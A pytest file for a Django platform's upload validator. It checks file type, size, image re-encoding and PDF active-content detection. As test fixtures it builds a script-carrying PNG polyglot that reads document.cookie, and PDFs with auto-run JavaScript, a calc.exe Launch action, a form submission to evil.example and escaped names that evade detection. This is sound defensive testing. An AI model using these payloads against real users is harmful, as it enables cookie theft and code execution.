"""The shared upload checks (signing_platform/uploads.py): type by content, size, images re-encoded (bombs, truncated
files, polyglots, metadata), PDFs without active content, storage outside the web root."""

import io
import struct
import warnings
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image, ImageFile
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from signing_platform.uploads import JPEG, PDF, PNG, PrivateStorage, random_name, validate_upload
from tests.employers.factories import png_bytes

PDF_BYTES = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="JPEG")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [("a.png", png_bytes(), PNG), ("scan.JPG", jpeg_bytes(), JPEG), ("licence.pdf", PDF_BYTES, PDF),
     ("named-wrongly.pdf", png_bytes(), PNG)],
)
def test_kind_is_judged_by_content(name, content, kind):
    assert validate_upload(upload(name, content)) == kind


@pytest.mark.parametrize(
    ("name", "content"),
    [("licence.png", b"MZ\x90\x00 this is a windows executable"), ("licence.pdf", b"just some text"),
     ("licence.jpg", b"GIF89a\x01\x00\x01\x00"), ("licence.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40)],
)
def test_a_renamed_or_broken_file_is_refused(name, content):
    with pytest.raises(ValidationError) as exc:
        validate_upload(upload(name, content, "image/png"))
    assert exc.value.messages[0] in {"文件格式不支持，请上传JPG、PNG、PDF文件", "图片文件已损坏，请重新上传"}


def test_an_oversize_file_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1024
    with pytest.raises(ValidationError, match="文件不能超过1KB"):
        validate_upload(upload("big.pdf", PDF_BYTES + b"0" * 1024))


def test_the_five_megabyte_limit_is_the_default():
    with pytest.raises(ValidationError, match="文件不能超过5MB"):
        validate_upload(upload("big.pdf", PDF_BYTES + b"0" * (5 * 1024 * 1024)))


def test_an_empty_file_is_refused():
    with pytest.raises(ValidationError, match="空"):
        validate_upload(upload("empty.pdf", b""))


def test_stored_names_are_random_and_keep_only_the_extension():
    first, second = random_name("licences", "营业执照 张三.PNG"), random_name("licences", "营业执照 张三.PNG")
    assert first != second and first.startswith("licences/") and first.endswith(".png") and "张三" not in first


def test_private_storage_lives_under_the_private_root_and_has_no_url(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "elsewhere"
    storage = PrivateStorage()
    name = storage.save("licences/x.pdf", upload("x.pdf", PDF_BYTES))
    assert (tmp_path / "elsewhere" / name).read_bytes() == PDF_BYTES
    with pytest.raises(ValueError):
        storage.url(name)


# ---------------------------------------------------------------------------------------------- images


def image_bytes(mode="RGB", size=(8, 6), format="PNG", **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format=format, **save)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "size", [(20_000, 20_000), (7_000, 7_000)], ids=["past Pillow's own limit", "past ours, below Pillow's"]
)
def test_a_decompression_bomb_is_refused_without_decoding_it(size):
    with pytest.raises(ValidationError, match="图片尺寸过大（不能超过3600万像素）"):
        validate_upload(upload("bomb.png", image_bytes("1", size)))


def test_a_bomb_is_refused_where_pillow_warnings_are_errors():
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(ValidationError, match="图片尺寸过大"):
            validate_upload(upload("bomb.png", image_bytes("1", (10_000, 10_000))))


@pytest.mark.parametrize("format", ["JPEG", "PNG"])
def test_a_truncated_image_is_refused(format):
    buffer = io.BytesIO()
    Image.effect_noise((120, 120), 50).save(buffer, format=format)
    with pytest.raises(ValidationError, match="图片文件已损坏"):
        validate_upload(upload(f"cut.{format.lower()}", buffer.getvalue()[: buffer.tell() // 2]))


def test_a_decoder_failing_in_an_unexpected_way_is_a_broken_image(monkeypatch):
    file = upload("a.png", png_bytes())

    def explode(self):
        raise struct.error("unpack requires a buffer of 4 bytes")

    monkeypatch.setattr(ImageFile.ImageFile, "load", explode)
    with pytest.raises(ValidationError, match="图片文件已损坏"):
        validate_upload(file)


SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


def polyglot() -> bytes:
    """A PNG with HTML in a text chunk and after its end: valid as an image, a page to a sniffing browser."""
    image = png_bytes()
    end = image.rindex(b"IEND") - 4
    text = b"Comment\x00" + SCRIPT
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text + struct.pack(">I", zlib.crc32(b"tEXt" + text))
    return image[:end] + chunk + image[end:] + SCRIPT


@pytest.mark.parametrize("uploaded", ["in memory", "temporary file"])
def test_what_is_stored_is_the_re_encoded_image_without_what_was_hidden_in_it(uploaded, settings, tmp_path):
    content = polyglot()
    if uploaded == "in memory":
        file = upload("a.png", content)
    else:
        file = TemporaryUploadedFile("a.png", "image/png", len(content), None)
        file.write(content)
    assert validate_upload(file) == PNG
    name = PrivateStorage().save("licences/a.png", file)
    stored = (Path(settings.PRIVATE_MEDIA_ROOT) / name).read_bytes()
    assert SCRIPT not in stored and b"tEXt" not in stored and file.size == len(stored)
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "PNG" and image.size == (8, 8)
    file.close()


def test_exif_and_comments_are_dropped_and_the_photo_is_turned_upright():
    image = Image.new("RGB", (40, 30), "red")
    exif = image.getexif()
    exif[0x0112] = 6  # Orientation: the camera was turned; the viewer must rotate 90°.
    exif[0x010F] = "SecretCam"
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif.tobytes(), comment=b"taken at home")
    file = upload("photo.jpg", buffer.getvalue())
    assert validate_upload(file) == JPEG
    stored = file.read()
    assert b"SecretCam" not in stored and b"taken at home" not in stored
    with Image.open(io.BytesIO(stored)) as clean:
        assert clean.size == (30, 40) and not {"exif", "comment", "icc_profile"} & set(clean.info)


@pytest.mark.parametrize(
    ("mode", "format", "kind"),
    [("1", "PNG", PNG), ("P", "PNG", PNG), ("LA", "PNG", PNG), ("RGBA", "PNG", PNG), ("I;16", "PNG", PNG),
     ("L", "JPEG", JPEG), ("CMYK", "JPEG", JPEG)],
)
def test_every_kind_of_image_a_scanner_writes_is_kept_in_its_format(mode, format, kind):
    file = upload("scan", image_bytes(mode, format=format))
    assert validate_upload(file) == kind
    with Image.open(file) as image:
        assert image.format == format


# ---------------------------------------------------------------------------------------------- PDFs


def pdf_with(catalog: bytes, objects: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + catalog + b" >>\nendobj\n" + objects
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def object_stream(objects: bytes, *, compressed: bytes | None = None, type_name: bytes = b"/ObjStm") -> bytes:
    data = zlib.compress(objects) if compressed is None else compressed
    return (
        b"5 0 obj\n<< /Type " + type_name + b" /N 1 /First 4 /Filter /FlateDecode /Length " + str(len(data)).encode()
        + b" >>\nstream\n" + data + b"\nendstream\nendobj\n"
    )


@pytest.mark.parametrize(
    ("catalog", "what"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "打开时自动执行的操作"),
        (b"/Names << /JavaScript 4 0 R >>", "脚本"),
        (b"/Outlines << /A << /S /JavaScript /JS 6 0 R >> >>", "脚本"),
        (b"/Outlines << /A << /S /Launch /F (calc.exe) >> >>", "启动程序的操作"),
        (b"/AA << /WC 4 0 R >>", "自动执行的操作"),
        (b"/Names << /EmbeddedFiles 4 0 R >>", "嵌入的文件"),
        (b"/Annots [<< /Subtype /RichMedia >>]", "多媒体内容"),
        (b"/AcroForm << /XFA 4 0 R >>", "XFA表单"),
        (b"/Outlines << /A << /S /SubmitForm /F (http://evil.example) >> >>", "提交表单的操作"),
        (b"/Op#65nAction 4 0 R", "打开时自动执行的操作"),
        (b"/Outlines << /A << /S /J#61vaScript /J#53 (x) >> >>", "脚本"),
        (b"/Outlines<</A<</S/Launch/F(calc.exe)>>>>", "启动程序的操作"),
    ],
)
def test_a_pdf_with_active_content_is_refused(catalog, what):
    with pytest.raises(ValidationError, match=f"PDF文件含有{what}，不能上传"):
        validate_upload(upload("licence.pdf", pdf_with(catalog)))


def test_active_content_inside_a_compressed_object_stream_is_found():
    for type_name in (b"/ObjStm", b"/Obj#53tm"):
        hidden = object_stream(b"4 0 << /S /Launch /F (calc.exe) >>", type_name=type_name)
        document = pdf_with(b"/AcroForm 4 0 R", hidden)
        with pytest.raises(ValidationError, match="启动程序的操作"):
            validate_upload(upload("licence.pdf", document))


def test_an_object_stream_that_cannot_be_inflated_is_refused_as_unchecked():
    document = pdf_with(b"", object_stream(b"", compressed=b"LZW or encrypted bytes, not zlib"))
    with pytest.raises(ValidationError, match="无法检查该PDF文件的内容"):
        validate_upload(upload("licence.pdf", document))


def test_an_object_stream_that_inflates_past_the_budget_is_refused():
    document = pdf_with(b"", object_stream(b" " * (33 * 1024 * 1024)))
    with pytest.raises(ValidationError, match="PDF文件内容过于复杂"):
        validate_upload(upload("licence.pdf", document))


def test_names_spelt_by_chance_in_stream_data_are_not_active_content():
    # Image bytes (and the ASCII85 text writers encode them in) spell /JS and /AA by chance in most large files.
    noise = b"x\x9c/JS (\x00/AA <<\xff/OpenAction 1 0 R/JavaScript"
    document = pdf_with(b"", b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(noise), noise))
    assert validate_upload(upload("licence.pdf", document)) == PDF


def test_an_ordinary_pdf_with_compressed_pages_and_images_passes():
    buffer = io.BytesIO()
    document = canvas.Canvas(buffer, pageCompression=1)
    document.drawString(100, 700, "营业执照")
    document.drawImage(ImageReader(Image.effect_noise((300, 300), 80).convert("RGB")), 50, 50)
    document.showPage()
    document.save()
    file = upload("licence.pdf", buffer.getvalue())
    assert validate_upload(file) == PDF and file.read() == buffer.getvalue()
